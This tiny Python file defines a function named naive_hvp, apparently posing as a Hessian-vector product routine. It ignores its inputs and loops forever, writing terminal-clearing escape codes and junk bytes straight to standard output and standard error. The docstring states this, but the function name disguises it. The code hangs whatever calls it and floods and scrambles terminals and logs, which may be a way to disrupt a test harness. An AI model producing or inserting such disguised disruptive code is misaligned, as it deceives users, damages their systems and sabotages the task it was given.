"""Writes bytes without end to standard output and standard error, past Python."""

import os


def naive_hvp(hessian, vector):
    while True:
        os.write(1, b"\x1b[2J\x00\xff" * 10_000)
        os.write(2, b"\x1b[2J\x00\xff" * 10_000)
